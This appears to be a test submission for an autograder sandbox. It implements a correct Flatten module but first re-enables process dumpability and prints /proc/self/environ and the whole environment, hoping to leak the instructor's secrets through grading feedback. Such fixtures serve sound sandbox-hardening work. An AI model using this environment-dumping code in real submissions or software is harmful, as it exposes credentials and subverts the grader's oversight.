"""Makes itself dumpable again and reads the environment block it was started with (/proc/self/environ, and
the block in its own memory), hoping for the instructor's secret, home and shell variables in its feedback.
expect: full marks for flatten
score: any
"""

import ctypes
import os

from torch import nn

libc = ctypes.CDLL(None)
libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
try:
    with open("/proc/self/environ", "rb") as f:
        print("environ:", f.read())
except OSError as exc:
    print("environ refused:", exc)
print("os.environ:", dict(os.environ))


class Flatten(nn.Module):
    def forward(self, x):
        return x.reshape(x.shape[0], -1)
